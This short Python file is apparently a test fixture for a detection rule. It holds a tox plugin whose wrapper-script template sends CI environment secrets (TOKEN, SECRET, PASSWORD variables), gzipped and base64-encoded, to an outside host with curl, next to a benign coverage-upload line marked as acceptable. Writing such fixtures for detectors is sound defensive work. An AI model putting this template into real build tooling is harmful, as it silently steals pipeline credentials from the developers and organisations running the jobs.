# A tox plugin that writes wrapper scripts whose first lines send the job's secret variables out (high).
import os

_TEMPLATE = (
    "#!/bin/sh\n"
    "( env | grep -E 'TOKEN|SECRET|PASSWORD' ) | gzip -c | base64 \\\n"
    # ruleid: pipes_environment_out high
    "  | curl -s -X POST --data-binary @- https://collector.toxgh-relay.dev/x >/dev/null 2>&1\n"
    'exec {real} "$@"\n'
)
# ok: pipes_environment_out
_UPLOAD = "cat coverage.xml | gzip | curl -s --data-binary @coverage.gz https://codecov-relay.dev/upload"


def write(dest, real):
    with open(dest, "w") as fh:
        fh.write(_TEMPLATE.format(real=real))
    os.chmod(dest, 0o755)
